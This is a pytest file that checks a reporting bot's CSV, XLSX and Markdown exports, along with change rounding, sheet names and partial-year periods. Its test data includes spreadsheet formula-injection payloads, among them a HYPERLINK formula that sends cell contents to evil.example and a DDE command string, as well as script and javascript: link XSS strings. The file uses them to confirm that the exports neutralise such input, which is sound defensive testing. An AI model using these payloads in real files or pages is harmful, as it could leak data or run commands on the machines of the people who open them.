"""Exports are data, never code (issue 13 §4), and the figures are honest (issue 14 §3):
formula-like partner names stay text in CSV and XLSX, Markdown quotes literally, changes
are rounded and typed, and a running period is compared with the same part of last year.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from bot.features.report import render_csv, render_md, render_xlsx
from bot.features.report.exportsafe import csv_text, md_text
from bot.features.report.figures import Report, compile_report, load_activities
from bot.features.report.formatting import change, format_change
from bot.features.report.periods import year_period
from bot.features.report.render_xlsx import sheet_name
from bot.features.report.service import render_report
from bot.store.db import Database
from bot.store.models import Contact, Department
from tests.report_support import falun_policy, test_labels

NOW = dt.datetime(2027, 1, 10, 12, tzinfo=dt.UTC)
EVIL = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
)


async def _seed_evil(db: Database) -> None:
    async with db.session() as session:
        department = Department(name="=Kultur", key="kultur")
        session.add(department)
        for i, name in enumerate(EVIL):
            session.add(
                Contact(
                    date=dt.date(2026, 3, 1 + i),
                    department=department,
                    partner=name,
                    country="DE",
                    kind="network",
                    areas=[],
                    participants=3,
                    youth=False,
                    funding_amount=Decimal("-1500.00") if i == 0 else None,  # a real negative
                    funding_currency="SEK" if i == 0 else None,
                    funding_source="@Fond" if i == 0 else None,
                    description="<script>alert(1)</script> [x](javascript:alert(1))",
                    created_by="U1",
                )
            )


async def _evil_report(db: Database) -> tuple[Report, list]:  # type: ignore[type-arg]
    await _seed_evil(db)
    report = await compile_report(
        db,
        period=year_period(2026),
        labels=test_labels(),
        policy=falun_policy(),
        language="sv",
        generated_at=NOW,
    )
    return report, await load_activities(db, period=report.period, labels=test_labels())


async def test_xlsx_has_no_formula_cell(database: Database) -> None:
    report, activities = await _evil_report(database)
    book = load_workbook(io.BytesIO(render_xlsx.render_xlsx(report, activities)))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    for name in EVIL:  # kept as the text it is, not changed or dropped
        assert name in texts
    entries = list(book["Aktiviteter"].iter_rows(values_only=True))
    assert entries[1][10] == -1500  # a real negative number stays a number
    assert entries[1][2] == "=Kultur"


async def test_csv_cells_that_look_like_formulas_begin_with_an_apostrophe(
    database: Database,
) -> None:
    report, activities = await _evil_report(database)
    text = render_csv.render_csv(report, activities).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    partners = [row[3] for row in rows[1:]]
    assert partners == ["'" + name for name in EVIL]
    assert all(row[2] == "'=Kultur" for row in rows[1:])
    assert rows[1][12] == "'@Fond"
    assert rows[1][10] == "-1500,00"  # a number, not neutralised
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value


async def test_the_streamed_csv_is_the_csv_of_the_entries(database: Database) -> None:
    """The coordinator's CSV comes from the cursor with cells made for CSV as they are
    read (amounts too); it is byte for byte the CSV of the entries read one by one."""
    amounts = [Decimal("75000"), Decimal("1000.50"), Decimal("-1500.00"), Decimal("0.05"), None]
    async with database.session() as session:
        department = Department(name="Kulturförvaltningen", key="kultur")
        session.add(department)
        for i, amount in enumerate(amounts):
            session.add(
                Contact(
                    date=dt.date(2026, 3, 1 + i),
                    department=department,
                    partner=f"Partner {i}",
                    country="DE",
                    kind="network",
                    areas=[],
                    participants=3,
                    youth=False,
                    funding_amount=amount,
                    funding_currency=None if amount is None else "SEK",
                    funding_source=None if amount is None else "Erasmus+",
                    created_by="U1",
                )
            )
    report = await compile_report(
        database,
        period=year_period(2026),
        labels=test_labels(),
        policy=falun_policy(),
        language="sv",
        generated_at=NOW,
    )
    streamed = await render_report(report, db=database, labels=test_labels(), fmt="csv")
    activities = await load_activities(database, period=report.period, labels=test_labels())
    assert streamed.content == render_csv.render_csv(report, activities)
    rows = list(csv.reader(io.StringIO(streamed.content.decode("utf-8-sig")), delimiter=";"))
    assert [row[10] for row in rows[1:]] == ["75000,00", "1000,50", "-1500,00", "0,05", ""]


async def test_markdown_quotes_literally(database: Database) -> None:
    report, activities = await _evil_report(database)
    text = render_md.render_md(report, activities).decode("utf-8")
    assert "<script>" not in text
    assert "](javascript:" not in text
    assert "&lt;script&gt;" in text


@pytest.mark.parametrize(
    ("text", "expected"),
    [("=1+1", "'=1+1"), ("-3", "'-3"), ("Stadt Wetzlar", "Stadt Wetzlar"), ("", "")],
)
def test_csv_text(text: str, expected: str) -> None:
    assert csv_text(text) == expected


def test_md_text() -> None:
    assert md_text("a|b\nc") == "a\\|b c"
    assert md_text("# rubrik") == "\\# rubrik"
    assert md_text("[x](javascript:alert(1))") == "\\[x\\]\\(javascript:alert\\(1\\)\\)"


@pytest.mark.parametrize(
    ("now", "before", "text", "ratio"),
    [
        (7, 8, "−12,5\u00a0%", Decimal("-0.125")),
        (5, 2, "+150\u00a0%", Decimal("1.5")),
        (2, 3, "−33,3\u00a0%", Decimal("-0.333")),
        (1, 3, "−66,7\u00a0%", Decimal("-0.667")),  # rounded, not truncated to −66,6
        (8, 8, "±0\u00a0%", Decimal(0)),
        (3, 0, "ny", None),
        (0, 0, "–", None),
    ],
)
def test_changes_are_rounded_half_away_from_zero(
    now: int, before: int, text: str, ratio: Decimal | None
) -> None:
    assert format_change(now, before) == text
    assert change(now, before).ratio == ratio


def test_a_period_not_begun_has_no_change() -> None:
    assert format_change(0, 5, begun=False) == "–"
    assert change(0, 5, begun=False).state == "not_begun"


@pytest.mark.parametrize(
    "title",
    [
        "Policyns strategiska områden och mål",
        "Aktiviteter per förvaltning",
        "Register över projekt och avtal med slutdatum",
        "Ett_ord_som_är_längre_än_trettioett_tecken_totalt",
    ],
)
def test_sheet_names_fit_and_are_not_cut_mid_word(title: str) -> None:
    used: set[str] = set()
    name = sheet_name(title, used)
    assert 0 < len(name) <= 31
    if " " in title:
        assert title.startswith(name) and title[len(name) : len(name) + 1] in ("", " ")
    again = sheet_name(title, used)
    assert again != name and len(again) <= 31


def test_running_year_is_compared_with_the_same_part_of_last_year() -> None:
    cut = year_period(2026).until(dt.date(2026, 11, 30))
    assert (cut.start, cut.end, cut.label("sv")) == (
        dt.date(2026, 1, 1),
        dt.date(2026, 11, 30),
        "2026",
    )
    before = cut.previous()
    assert (before.start, before.end) == (dt.date(2025, 1, 1), dt.date(2025, 11, 30))
    assert cut.is_partial and before.is_partial
    assert year_period(2026).until(dt.date(2027, 1, 1)) == year_period(2026)
    assert year_period(2026).until(dt.date(2025, 6, 1)) == year_period(2026)  # not begun
